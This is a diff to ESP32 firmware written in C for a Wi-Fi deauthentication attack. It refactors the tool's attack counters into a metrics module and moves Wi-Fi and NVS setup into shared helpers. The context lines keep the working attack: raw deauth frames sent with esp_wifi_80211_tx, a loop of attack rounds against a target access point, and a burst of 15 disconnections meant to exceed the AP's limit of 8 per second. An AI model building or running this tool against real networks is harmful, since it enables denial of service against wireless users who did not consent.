@@ -7,10 +7,11 @@
 #include "esp_wifi.h"
 #include "esp_event.h"
 #include "esp_log.h"
-#include "nvs_flash.h"
 #include "esp_netif.h"
 #include "esp_random.h"
 #include "esp_wifi_types.h"
+#include "metrics.h"
+#include "wifi_common.h"
 
 // Configurações do AP alvo
 #define TARGET_SSID "ESP32_AP"
@@ -39,13 +40,10 @@ typedef struct {
 } __attribute__((packed)) deauth_frame_t;
 
 static const char *TAG = "DEAUTH_ATTACK";
-static EventGroupHandle_t s_wifi_event_group;
 
-#define WIFI_CONNECTED_BIT BIT0
-#define WIFI_FAIL_BIT      BIT1
-
-static int deauth_attempts = 0;
-static int successful_deauths = 0;
+static metric_t *m_deauth_attempts;
+static metric_t *m_successful_deauths;
+static int deauth_rounds = 0;   // controla o laço do ataque; as métricas só exportam
 static bool connected_to_target = false;
 static uint8_t target_bssid[6];
 static uint8_t target_clients[MAX_TARGET_CLIENTS][6];
@@ -63,7 +61,7 @@ static void event_handler(void* arg, esp_event_base_t event_base,
         connected_to_target = false;
         ESP_LOGI(TAG, "\n\n\nDesconectado do alvo! Tentando reconectar...");
         esp_wifi_connect();
-        xEventGroupSetBits(s_wifi_event_group, WIFI_FAIL_BIT);
+        xEventGroupSetBits(wifi_common_event_group(), WIFI_FAIL_BIT);
     } else if (event_base == IP_EVENT && event_id == IP_EVENT_STA_GOT_IP) {
         ip_event_got_ip_t* event = (ip_event_got_ip_t*) event_data;
         connected_to_target = true;
@@ -80,8 +78,6 @@ static void event_handler(void* arg, esp_event_base_t event_base,
                  target_bssid[3], target_bssid[4], target_bssid[5]);
         ESP_LOGI(TAG, "Pronto para iniciar ataques deauth contra outros clientes!");
         ESP_LOGI(TAG, "");
-        
-        xEventGroupSetBits(s_wifi_event_group, WIFI_CONNECTED_BIT);
     }
 }
 
@@ -146,7 +142,7 @@ esp_err_t send_deauth_frame(uint8_t* target_mac, uint16_t reason)
     esp_err_t result = esp_wifi_80211_tx(WIFI_IF_STA, &deauth_frame, sizeof(deauth_frame), false);
     
     if (result == ESP_OK) {
-        successful_deauths++;
+        metric_inc(m_successful_deauths);
         ESP_LOGI(TAG, "DEAUTH ENVIADO para %02x:%02x:%02x:%02x:%02x:%02x (motivo: %d)",
                  target_mac[0], target_mac[1], target_mac[2],
                  target_mac[3], target_mac[4], target_mac[5], reason);
@@ -164,10 +160,11 @@ void execute_deauth_attack(void)
         return;
     }
     
-    deauth_attempts++;
+    deauth_rounds++;
+    metric_inc(m_deauth_attempts);
     
     ESP_LOGI(TAG, "");
-    ESP_LOGI(TAG, "EXECUTANDO ATAQUE DEAUTH #%d", deauth_attempts);
+    ESP_LOGI(TAG, "EXECUTANDO ATAQUE DEAUTH #%d", deauth_rounds);
     ESP_LOGI(TAG, "Simulando desconexões rápidas para gerar flood...");
     
     
@@ -182,7 +179,7 @@ void execute_deauth_attack(void)
         ESP_LOGI(TAG, " Desconexão simulada #%d para gerar flood", i + 1);
     }
     
-    successful_deauths += 15; // Considerar as 15 tentativas
+    metric_add(m_successful_deauths, 15); // Considerar as 15 tentativas
     
     ESP_LOGI(TAG, "Ataque deauth simulado completo! 15 desconexões em ~450ms");
     ESP_LOGI(TAG, "Isso deve exceder o limite de 8 desconexões/segundo do AP");
@@ -197,10 +194,11 @@ void show_deauth_stats(void)
     ESP_LOGI(TAG, "BSSID: %02x:%02x:%02x:%02x:%02x:%02x",
              target_bssid[0], target_bssid[1], target_bssid[2],
              target_bssid[3], target_bssid[4], target_bssid[5]);
-    ESP_LOGI(TAG, "Ataques executados: %d", deauth_attempts);
-    ESP_LOGI(TAG, "Frames deauth enviados: %d", successful_deauths);
+    ESP_LOGI(TAG, "Ataques executados: %ld", (long)metric_value(m_deauth_attempts));
+    ESP_LOGI(TAG, "Frames deauth enviados: %ld", (long)metric_value(m_successful_deauths));
     ESP_LOGI(TAG, "Clientes alvo: %d", target_client_count);
     ESP_LOGI(TAG, "Status: %s", connected_to_target ? "CONECTADO" : "DESCONECTADO");
+    metrics_log_all(TAG);
     ESP_LOGI(TAG, "==========================================");
     ESP_LOGI(TAG, "");
 }
@@ -225,10 +223,10 @@ static void deauth_attack_task(void *pvParameters)
     ESP_LOGI(TAG, "Iniciando ataque deauth em 3 segundos...");
     vTaskDelay(pdMS_TO_TICKS(3000));
     
-    while (deauth_attempts < MAX_DEAUTH_ATTEMPTS && connected_to_target) {
+    while (deauth_rounds < MAX_DEAUTH_ATTEMPTS && connected_to_target) {
         execute_deauth_attack();
         
-        if (deauth_attempts % 10 == 0) {
+        if (deauth_rounds % 10 == 0) {
             show_deauth_stats();
         }
         
@@ -245,44 +243,13 @@ static void deauth_attack_task(void *pvParameters)
 
 void wifi_init_deauth(void)
 {
-    s_wifi_event_group = xEventGroupCreate();
-
-    ESP_ERROR_CHECK(esp_netif_init());
-    ESP_ERROR_CHECK(esp_event_loop_create_default());
-    
-    esp_netif_create_default_wifi_sta();
-
-    wifi_init_config_t cfg = WIFI_INIT_CONFIG_DEFAULT();
-    ESP_ERROR_CHECK(esp_wifi_init(&cfg));
-
-    esp_event_handler_instance_t instance_any_id;
-    esp_event_handler_instance_t instance_got_ip;
-    ESP_ERROR_CHECK(esp_event_handler_instance_register(WIFI_EVENT,
-                                                        ESP_EVENT_ANY_ID,
-                                                        &event_handler,
-                                                        NULL,
-                                                        &instance_any_id));
-    ESP_ERROR_CHECK(esp_event_handler_instance_register(IP_EVENT,
-                                                        IP_EVENT_STA_GOT_IP,
-                                                        &event_handler,
-                                                        NULL,
-                                                        &instance_got_ip));
-
-    wifi_config_t wifi_config = {
-        .sta = {
-            .ssid = TARGET_SSID,
-            .password = TARGET_PASS,
-            .threshold.authmode = WIFI_AUTH_WPA2_PSK,
-            .pmf_cfg = {
-                .capable = true,
-                .required = false
-            },
-        },
+    wifi_common_sta_config_t sta_config = {
+        .ssid = TARGET_SSID,
+        .password = TARGET_PASS,
+        .handler = &event_handler,
+        .start = true,
     };
-
-    ESP_ERROR_CHECK(esp_wifi_set_mode(WIFI_MODE_STA));
-    ESP_ERROR_CHECK(esp_wifi_set_config(WIFI_IF_STA, &wifi_config));
-    ESP_ERROR_CHECK(esp_wifi_start());
+    wifi_common_init_sta(&sta_config);
     
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "Wi-Fi configurado para ataque deauth REAL!");
@@ -291,12 +258,10 @@ void wifi_init_deauth(void)
 
 void app_main(void)
 {
-    esp_err_t ret = nvs_flash_init();
-    if (ret == ESP_ERR_NVS_NO_FREE_PAGES || ret == ESP_ERR_NVS_NEW_VERSION_FOUND) {
-        ESP_ERROR_CHECK(nvs_flash_erase());
-        ret = nvs_flash_init();
-    }
-    ESP_ERROR_CHECK(ret);
+    wifi_common_nvs_init();
+
+    m_deauth_attempts = metrics_counter("deauth_attempts_total", "Rodadas de ataque deauth executadas");
+    m_successful_deauths = metrics_counter("deauth_frames_sent_total", "Frames/desconexoes deauth enviados");
 
     ESP_LOGI(TAG, "");
     ESP_LOGI(TAG, "");